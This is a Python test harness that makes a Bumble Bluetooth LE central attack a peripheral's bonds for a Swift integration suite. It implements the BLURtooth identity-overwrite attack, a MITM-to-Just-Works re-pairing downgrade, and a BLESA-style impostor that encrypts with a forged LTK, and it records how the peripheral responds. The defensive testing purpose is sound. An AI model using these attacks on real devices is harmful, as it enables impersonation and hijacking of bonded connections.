#!/usr/bin/env python3
"""A Bumble central that attacks a peripheral's bonds, for the bond-rules suite of Harald's HCI
peripheral (Tests/HaraldHCIBackendTests/PeripheralBondAttackBumbleIntegrationTests.swift),
steered by the test. It is every central of that suite in turn: before each connection it takes
the address it is told to connect from (static random, or a resolvable private address made
from an IRK), so one process plays the honest central, the claimer and the impostor.

The attacks (issue 25; BLURtooth, CVE-2020-15802, and BLESA, Wu et al., WOOT 2020), on the
peripheral's side:
  pair with "identity" another central's identity address: a second central pairs Just Works
        and names, in Identity Address Information, the identity of a central the peripheral
        has bonded with (with an IRK that does not resolve the address it connects from). A host
        that keys bonds by the distributed identity lets it overwrite the real central's bond; a
        secure one answers Pairing Failed, Invalid Parameters (0x0A) and ends the link.
  pair without "mitm" from a central bonded with MITM: pairs again Just Works on the same
        identity. A secure host keeps the authenticated bond: Pairing Failed, Unspecified
        Reason (0x08).
  impostor: connects from a bonded central's address without its key and asks the controller to
        encrypt with a made-up LTK, EDIV and Rand; then reads a characteristic that needs
        encryption, whatever came of it. A secure host answers the LTK Request with a negative
        reply (the link reports PIN or Key Missing, 0x06) and refuses the read (0x0F or 0x05).

Control channel (attacker.py's serve_control): one JSON object a line.
  {"op": "pair", "address": the peripheral's address, "from": our address, or "rpa_irk": hex
   (connect from a fresh resolvable private address of that IRK), "identity": the identity address
   we distribute (default: "from"), "irk": hex (the IRK we distribute; default: a random one),
   "mitm": bool (Passkey Entry, we type "passkey"; else Just Works), "passkey",
   "read": UUID to read after pairing, "linger": seconds to wait for the peripheral to end the link}
     -> {"from", "paired": Bumble's side of the pairing finished, "reason": the Pairing Failed
         reason the peripheral sent (or null), "received": SMP codes from the peripheral,
         "encrypted", "read": {"status", "value"} or null, "disconnection": reason or null,
         "ended_by_peer": whether the peripheral ended the link}
  {"op": "impostor", "address", "from", "ltk": hex (16 octets), "ediv", "rand": hex (8 octets),
   "read": UUID}
     -> {"encryption": 0 (encrypted) or the HCI error of the Encryption Change (0x06 PIN or Key
         Missing) or null (none came), "read", "disconnection", "ended_by_peer"}
  {"op": "forget"}  forgets every key it holds
Prints CONTROL <port>, READY <address>, and a line per event (PAIRED, PAIRING_FAILED reason=0x..,
ENCRYPTION status=0x.., READ uuid status=.., DISCONNECTED reason=0x..); runs until killed.
"""
import argparse
import asyncio
import os

from bumble import hci
from bumble.core import ProtocolError
from bumble.device import Peer
from bumble.pairing import PairingConfig, PairingDelegate

import attacker as kit  # same directory: what the steered Bumble peers share
from attacker import say

SMP_CID = 0x0006
PAIRING_FAILED = 0x05


class Link:
    """One connection and what happened on it."""

    def __init__(self, connection):
        self.connection = connection
        self.disconnection = None
        self.ended_by_peer = False
        self.gone = asyncio.Event()
        self.encryption = asyncio.get_running_loop().create_future()
        connection.on("disconnection", self.on_disconnection)
        connection.on("connection_encryption_change", lambda: self.settle(0 if connection.is_encrypted else -1))
        connection.on("connection_encryption_failure", lambda error: self.settle(int(error)))

    def settle(self, status):
        if not self.encryption.done():
            self.encryption.set_result(status)
        say(f"ENCRYPTION status=0x{status & 0xFF:02X}")

    def on_disconnection(self, reason):
        self.disconnection = int(reason)
        self.gone.set()
        say(f"DISCONNECTED reason=0x{int(reason):02X}")

    async def wait_gone(self, seconds):
        try:
            await asyncio.wait_for(self.gone.wait(), seconds)
        except asyncio.TimeoutError:
            pass

    async def read(self, uuid):
        """Discovers and reads `uuid` with a raw Read Request (no pairing on an error)."""
        if self.gone.is_set():
            return None
        try:
            peer = Peer(self.connection)
            await peer.discover_services()
            for service in peer.services:
                await service.discover_characteristics()
            target = kit.characteristic(peer, kit.parse_uuid(uuid))
            if target is None:
                return {"status": "missing"}
            result = await kit.read_raw(self.connection, target.handle)
        except (asyncio.CancelledError, Exception) as error:  # the link went away under the read
            if isinstance(error, asyncio.CancelledError) and asyncio.current_task().cancelling():
                raise
            result = {"status": f"failed: {type(error).__name__}"}
        say(f"READ {uuid} status={result['status']}")
        return result

    async def close(self):
        if not self.gone.is_set():
            try:
                await self.connection.disconnect()
            except (asyncio.CancelledError, Exception):  # it went down meanwhile
                if asyncio.current_task().cancelling():
                    raise
            await self.wait_gone(10)


class Central:
    def __init__(self, device):
        self.device = device
        self.received = []  # SMP codes from the peripheral on the current connection
        self.failure = None  # the reason of the last Pairing Failed among them
        device.host.on("l2cap_pdu", self.on_l2cap_pdu)

    def on_l2cap_pdu(self, handle, cid, pdu):
        if cid == SMP_CID and pdu:
            self.received.append(pdu[0])
            if pdu[0] == PAIRING_FAILED:
                self.failure = pdu[1] if len(pdu) > 1 else -1
                say(f"PAIRING_FAILED reason=0x{self.failure & 0xFF:02X}")

    async def use_address(self, request):
        if "rpa_irk" in request:
            address = hci.Address.generate_private_address(bytes.fromhex(request["rpa_irk"]))
        else:
            address = hci.Address(request["from"])
        self.device.random_address = address
        await self.device.send_command(hci.HCI_LE_Set_Random_Address_Command(random_address=address))
        return address

    async def connect(self, request):
        own = await self.use_address(request)
        self.received, self.failure = [], None
        connection = await self.device.connect(
            hci.Address(request["address"]), own_address_type=hci.OwnAddressType.RANDOM, timeout=20)
        say(f"CONNECTED {connection.peer_address} from {own}")
        return own, Link(connection)

    async def pair(self, request):
        own, link = await self.connect(request)
        mitm = bool(request.get("mitm"))
        # What we distribute in Identity Information and Identity Address Information.
        self.device.static_address = hci.Address(request.get("identity") or str(own))
        self.device.irk = bytes.fromhex(request["irk"]) if request.get("irk") else os.urandom(16)
        delegate = kit.AcceptingDelegate(
            io=PairingDelegate.KEYBOARD_INPUT_ONLY if mitm else PairingDelegate.NO_OUTPUT_NO_INPUT, passkey=int(request.get("passkey", 0)))
        self.device.pairing_config_factory = lambda _: PairingConfig(
            sc=True, mitm=mitm, bonding=True, delegate=delegate, identity_address_type=PairingConfig.AddressType.RANDOM)
        paired, reason = False, None
        try:
            await asyncio.wait_for(link.connection.pair(), 30)
            paired = True
            say("PAIRED")
        except ProtocolError as error:
            reason = int(error.error_code)
        except (asyncio.CancelledError, Exception) as error:  # no answer, or the link went away
            # Bumble ends the pairing with CancelledError when the link goes down under it (the
            # peripheral may refuse and disconnect before Bumble's side has finished).
            if isinstance(error, asyncio.CancelledError) and asyncio.current_task().cancelling():
                raise
            say(f"PAIRING ended without Pairing Failed: {type(error).__name__}: {error}")
        # The peripheral judges our keys after we sent them: give it time to refuse and end the link.
        await link.wait_gone(float(request.get("linger", 0)))
        link.ended_by_peer = link.gone.is_set()
        reason = self.failure if self.failure is not None else reason
        encrypted = bool(not link.gone.is_set() and link.connection.is_encrypted)
        read = await link.read(request["read"]) if request.get("read") else None
        await link.close()
        return {"from": str(own), "paired": paired, "reason": reason, "received": list(self.received), "encrypted": encrypted,
                "read": read, "disconnection": link.disconnection, "ended_by_peer": link.ended_by_peer}

    async def impostor(self, request):
        own, link = await self.connect(request)
        command = hci.HCI_LE_Enable_Encryption_Command(
            connection_handle=link.connection.handle, random_number=bytes.fromhex(request["rand"]),
            encrypted_diversifier=int(request["ediv"]), long_term_key=bytes.fromhex(request["ltk"]))
        await self.device.send_command(command)
        # An Encryption Change (success or failure), or the end of the link (a MIC failure).
        gone = asyncio.ensure_future(link.gone.wait())
        await asyncio.wait([link.encryption, gone], timeout=20, return_when=asyncio.FIRST_COMPLETED)
        gone.cancel()
        encryption = link.encryption.result() if link.encryption.done() else None
        if encryption is None:
            say("ENCRYPTION no Encryption Change")
        read = await link.read(request["read"]) if request.get("read") else None
        link.ended_by_peer = link.gone.is_set()
        await link.close()
        return {"from": str(own), "encryption": encryption, "read": read, "disconnection": link.disconnection,
                "ended_by_peer": link.ended_by_peer}

    async def control(self, request):
        op = request.get("op")
        if op == "pair":
            return await self.pair(request)
        if op == "impostor":
            return await self.impostor(request)
        if op == "forget":
            await self.device.keystore.delete_all()
            return {}
        raise ValueError(f"unknown op {op!r}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--transport", required=True, help="e.g. tcp-client:127.0.0.1:9001")
    parser.add_argument("--address", required=True, help="its first static random address")
    parser.add_argument("--control-port", type=int, default=0)
    args = parser.parse_args()
    kit.main(kit.run_peer(args.transport, args.address, "Harald-BONDC", Central, control_port=args.control_port))


if __name__ == "__main__":
    main()
